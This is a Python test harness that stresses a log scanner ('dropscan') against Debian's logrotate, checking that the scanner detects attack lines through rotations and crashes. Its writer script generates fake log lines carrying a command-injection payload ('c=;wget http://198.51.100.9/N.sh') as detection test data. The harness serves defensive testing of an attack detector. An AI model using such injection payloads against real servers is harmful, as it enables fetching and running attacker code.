"""A campaign against Debian's real ``logrotate``: a writer appends attack lines with known ids
at a steady rate while ``logrotate -f`` rotates, and three incremental consumers read the log:
cron-style runs naming the directory, cron-style runs naming the live file, and ``--follow``.
Runs start at random (seeded) moments, rotations happen while they read, and some runs (and
the follower) are killed with SIGKILL at random moments. At the end every id must appear in
every consumer's outputs: exactly once across the runs that ended normally, and at least once
counting the output of killed runs (a run killed after writing findings but before saving its
state reports them again: at-least-once is the honest guarantee after a crash before commit).

The writer cooperates with logrotate the way a well-configured server does, so that logrotate
itself loses nothing: with ``create`` it keeps writing to the renamed file until ``postrotate``
tells it to reopen (the late writes of a graceful reload), and with ``copytruncate`` it pauses
between ``prerotate`` and ``postrotate`` (logrotate's own copy-then-truncate window loses lines
otherwise). With ``rotate 1`` every consumer completes a run between two rotations, since the
file it has not read yet is deleted by the next one.

One cell of the matrix {create, copytruncate} x {compress, delaycompress, none} x {numbered,
dateext, dateformat with seconds} x {rotate 1, rotate 5} is `run_cell`; `python
tests/logrotate_campaign.py` runs the whole matrix (or ``--cells N`` of it) and prints figures.
The suite runs a seeded subset (tests/test_logrotate_campaign.py).
"""

from __future__ import annotations

import itertools
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from conftest import diagnostics

LOGROTATE = shutil.which("logrotate") or ("/usr/sbin/logrotate" if os.access("/usr/sbin/logrotate", os.X_OK) else None)
MODES = ("create", "copytruncate")
COMPRESSION = ("compress", "delaycompress", "none")
NAMING = ("numbered", "dateext", "dateformat")
ROTATE = (1, 5)
MATRIX = list(itertools.product(MODES, COMPRESSION, NAMING, ROTATE))

# The writer: 5 lines every 10 ms, each with its number, every ATTACK-th one an attack whose id
# is that number; each batch is appended with one write() (whole lines only).
ATTACK = 10
WRITER = r"""
import os, sys, time
d, mode, ATTACK = sys.argv[1], sys.argv[2], int(sys.argv[3])
log, flag = os.path.join(d, "logs", "access.log"), lambda n: os.path.join(d, n)
def line(n):
    if n % ATTACK:
        return ('192.0.2.8 - - [01/Dec/2026:10:00:00 +0000] "GET /page/%d.html HTTP/1.1" 200 100 "-" '
                '"Mozilla/5.0"\n' % n).encode()
    return ('203.0.113.7 - - [01/Dec/2026:10:00:00 +0000] "GET /x?id=%d&c=;wget%%20http://198.51.100.9/%d.sh '
            'HTTP/1.1" 200 100 "-" "Mozilla/5.0"\n' % (n, n)).encode()
fd, n = os.open(log, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o640), 0
while not os.path.exists(flag("stop")):
    if os.path.exists(flag("reopen")):  # postrotate of "create": the old file gets no more lines
        os.close(fd)
        fd = os.open(log, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o640)
        os.unlink(flag("reopen"))
    if os.path.exists(flag("pause")):  # between prerotate and postrotate of "copytruncate"
        open(flag("paused"), "w").close()
        time.sleep(0.002)
        continue
    os.write(fd, b"".join(line(n + k) for k in range(1, 6)))
    n += 5
    time.sleep(0.01)
with open(flag("written"), "w") as fh:
    fh.write(str(n))
"""


def config(d: Path, mode: str, compression: str, naming: str, rotate: int) -> str:
    lines = [f"rotate {rotate}", mode, "missingok", "ifempty"]
    lines += {"compress": ["compress"], "delaycompress": ["compress", "delaycompress"], "none": ["nocompress"]}[
        compression
    ]
    lines += {"numbered": [], "dateext": ["dateext"], "dateformat": ["dateext", "dateformat -%Y-%m-%d-%s"]}[naming]
    wait = "i=0; while [ {cond} ] && [ $i -lt 3000 ]; do sleep 0.005; i=$((i+1)); done"
    if mode == "create":
        lines += ["postrotate", f"  touch {d}/reopen; " + wait.format(cond=f"-e {d}/reopen"), "endscript"]
    else:
        lines += ["prerotate", f"  touch {d}/pause; " + wait.format(cond=f"! -e {d}/paused"), "endscript"]
        lines += ["postrotate", f"  rm -f {d}/pause {d}/paused", "endscript"]
    body = "\n".join("    " + x for x in lines)
    return f"{d}/logs/access.log {{\n{body}\n}}\n"


@dataclass
class Consumer:
    """One incremental reader (its own state file) and the outputs of its runs."""

    name: str
    target: str
    state: Path
    completed: list[Path] = field(default_factory=list)
    killed: list[Path] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)  # exit 2, or any error/warning on stderr, of a completed run


@dataclass
class Figures:
    cell: tuple
    seed: int
    written: int = 0  # lines; every ATTACK-th an attack with an id
    rotations: int = 0
    runs: int = 0
    killed: int = 0
    lost: dict[str, int] = field(default_factory=dict)
    duplicated: dict[str, int] = field(default_factory=dict)  # among runs that ended normally
    repeated_after_kill: dict[str, int] = field(default_factory=dict)  # at-least-once after a crash
    problems: list[str] = field(default_factory=list)

    @property
    def ids(self) -> int:
        return self.written // ATTACK

    @property
    def ok(self) -> bool:
        return not any(self.lost.values()) and not any(self.duplicated.values()) and not self.problems


class Cell:
    def __init__(self, root: Path, cell: tuple, seed: int):
        self.root, self.cell, self.rng = root, cell, random.Random(f"{seed}:{cell}")
        self.mode, self.compression, self.naming, self.rotate = cell
        self.logs = root / "logs"
        self.out = root / "out"
        self.logs.mkdir(parents=True)
        self.out.mkdir()
        (root / "logrotate.conf").write_text(config(root, *cell))
        self.figures = Figures(cell, seed)
        self.consumers = {
            "dir": Consumer("dir", str(self.logs), root / "dir.state"),
            "file": Consumer("file", str(self.logs / "access.log"), root / "file.state"),
            "follow": Consumer("follow", str(self.logs / "access.log"), root / "follow.state"),
        }
        self.procs: list[subprocess.Popen] = []  # running
        self.numbers = itertools.count()
        self.last_rotation = 0
        self.follower: tuple[subprocess.Popen, Path] | None = None

    # --- processes -------------------------------------------------------------------------
    def dropscan(self, c: Consumer, *extra: str) -> tuple[subprocess.Popen, Path]:
        out = self.out / f"{c.name}-{next(self.numbers):04d}.jsonl"
        cmd = [sys.executable, "-m", "dropscan", "scan", c.target, "--state", str(c.state), "-f", "jsonl"]
        proc = subprocess.Popen(
            [*cmd, "-o", str(out), *extra], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, cwd=self.root
        )
        self.figures.runs += 1
        self.procs.append(proc)
        return proc, out

    def finish(self, proc: subprocess.Popen, c: Consumer, out: Path, kill_at: float | None) -> None:
        """Wait for a run, killing it with SIGKILL at ``kill_at`` (monotonic) if still running."""
        if kill_at is not None:
            try:
                proc.wait(timeout=max(0.0, kill_at - time.monotonic()))
            except subprocess.TimeoutExpired:
                proc.kill()
        _, err = proc.communicate()
        self.procs.remove(proc)
        if proc.returncode == -signal.SIGKILL:
            self.figures.killed += 1
            c.killed.append(out)
            return
        c.completed.append(out)
        if proc.returncode not in (0, 1) or diagnostics(err.decode(errors="replace")):
            c.problems.append(f"{c.name} run {out.name}: exit {proc.returncode}: {err.decode(errors='replace')}")

    def run(self, c: Consumer) -> None:
        proc, out = self.dropscan(c)
        self.finish(proc, c, out, None)

    def logrotate(self) -> None:
        if self.naming == "dateformat":  # its names have a resolution of one second
            while int(time.time()) <= self.last_rotation:
                time.sleep(0.05)
        r = subprocess.run(
            [LOGROTATE, "-f", "-s", str(self.root / "logrotate.status"), str(self.root / "logrotate.conf")],
            capture_output=True,
        )
        self.last_rotation = int(time.time())
        if r.returncode == 0:
            self.figures.rotations += 1
        elif b"already exists" not in r.stderr:  # plain dateext rotates once a day
            self.figures.problems.append(f"logrotate: exit {r.returncode}: {r.stderr.decode(errors='replace')}")

    def start_follower(self) -> None:
        c = self.consumers["follow"]
        self.follower = self.dropscan(c, "--follow", "--interval", "0.05")

    def kill_follower(self) -> None:
        proc, out = self.follower
        proc.kill()
        self.finish(proc, self.consumers["follow"], out, None)

    def stop_follower(self) -> None:
        proc, out = self.follower
        self.follower_polled(time.time_ns())  # its signal handlers are set (and it read the last lines)
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            self.figures.problems.append("the follower did not end on SIGTERM within a minute")
        self.finish(proc, self.consumers["follow"], out, time.monotonic())

    def follower_polled(self, since_ns: int, timeout: float = 180.0) -> None:
        """Wait until the follower saved its state after ``since_ns`` (it polled since)."""
        state = self.consumers["follow"].state
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            try:
                if state.stat().st_mtime_ns > since_ns:
                    return
            except FileNotFoundError:
                pass
            if self.follower[0].poll() is not None:
                self.figures.problems.append(f"the follower ended by itself (exit {self.follower[0].returncode})")
                return
            time.sleep(0.02)
        self.figures.problems.append(f"the follower did not poll within {timeout:.0f} s")

    # --- the campaign ------------------------------------------------------------------------
    def play(self, rounds: int = 3) -> Figures:
        writer = subprocess.Popen([sys.executable, "-c", WRITER, str(self.root), self.mode, str(ATTACK)])
        try:
            while not (self.logs / "access.log").exists() or not (self.logs / "access.log").stat().st_size:
                time.sleep(0.01)
            # every consumer knows the log before the first rotation: a first run naming the live
            # file reads that file, not the archives (what was rotated before it is not asked for)
            self.run(self.consumers["dir"])
            self.run(self.consumers["file"])
            before = time.time_ns()
            self.start_follower()
            self.follower_polled(before)
            for _ in range(rounds):
                self.round()
        except BaseException:
            for proc in self.procs:
                proc.kill()
            raise
        finally:
            (self.root / "stop").touch()
            writer.wait()
        self.figures.written = int((self.root / "written").read_text())
        self.stop_follower()
        for c in self.consumers.values():  # the last lines: one more run each, as cron would
            self.run(c)
        self.check()
        return self.figures

    def round(self) -> None:
        """Some runs at random moments around one rotation, some of them killed, maybe the
        follower killed and restarted; with ``rotate 1``, then a complete run of each."""
        rng = self.rng
        time.sleep(rng.uniform(0.1, 0.4))
        running = []
        for name in ("dir", "file"):
            if rng.random() < 0.8:
                kill = rng.random() < 0.3
                proc, out = self.dropscan(self.consumers[name])
                at = time.monotonic() + rng.uniform(0.0, 1.2) if kill else None
                running.append((proc, self.consumers[name], out, at))
        time.sleep(rng.uniform(0.0, 0.8))  # logrotate while they start, read or commit
        self.logrotate()
        if rng.random() < 0.4:
            time.sleep(rng.uniform(0.0, 0.3))
            self.kill_follower()
            self.start_follower()
        for proc, c, out, at in running:
            self.finish(proc, c, out, at)
        if self.rotate == 1:  # the next rotation deletes what is not read by then
            before = time.time_ns()
            self.run(self.consumers["dir"])
            self.run(self.consumers["file"])
            self.follower_polled(before)

    def check(self) -> None:
        f = self.figures
        want = set(range(ATTACK, f.written + 1, ATTACK))
        for c in self.consumers.values():
            done, all_ = Counter(), Counter()
            for out in c.completed:
                done.update(_ids(out))
            for out in c.killed:
                all_.update(_ids(out))
            all_.update(done)
            f.lost[c.name] = len(want - set(all_))
            f.duplicated[c.name] = sum(1 for n in done.values() if n > 1)
            f.repeated_after_kill[c.name] = sum(1 for n in all_.values() if n > 1)
            f.problems += c.problems
            if set(all_) - want:
                f.problems.append(f"{c.name}: ids never written: {sorted(set(all_) - want)[:5]}")


def _ids(out: Path) -> list[int]:
    """The ids of the findings in one output (a killed run's last line may be cut)."""
    ids = []
    if not out.exists():
        return ids
    for raw in out.read_text(errors="replace").splitlines():
        try:
            rec = json.loads(raw)
        except json.JSONDecodeError:
            continue
        ids.append(int(rec["request"].split("id=", 1)[1].split("&", 1)[0]))
    return ids


def run_cell(root: Path, cell: tuple, seed: int, rounds: int = 3) -> Figures:
    return Cell(root, cell, seed).play(rounds)


def main(argv: list[str]) -> int:
    import argparse
    import tempfile

    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seed", type=int, default=11)
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--cells", type=int, default=len(MATRIX), help="a seeded sample of the matrix")
    a = ap.parse_args(argv)
    if LOGROTATE is None:
        print("logrotate is not installed", file=sys.stderr)
        return 2
    cells = random.Random(a.seed).sample(MATRIX, a.cells) if a.cells < len(MATRIX) else MATRIX
    total = Counter()
    bad = 0
    for cell in cells:
        with tempfile.TemporaryDirectory() as d:
            f = run_cell(Path(d), cell, a.seed, a.rounds)
        total.update(ids=f.ids, rotations=f.rotations, runs=f.runs, killed=f.killed)
        total.update(lost=sum(f.lost.values()), duplicated=sum(f.duplicated.values()))
        total.update(repeated_after_kill=sum(f.repeated_after_kill.values()))
        bad += not f.ok
        print(
            f"{'/'.join(map(str, cell)):45} ids {f.ids:5} rotations {f.rotations} runs {f.runs:3} "
            f"killed {f.killed:2} lost {f.lost} duplicated {f.duplicated} after-kill {f.repeated_after_kill}"
            + (f" PROBLEMS {f.problems}" if f.problems else ""),
            flush=True,
        )
    print(f"{len(cells)} cells, {bad} failed: " + ", ".join(f"{k} {v}" for k, v in total.items()))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "src"))
    sys.exit(main(sys.argv[1:]))
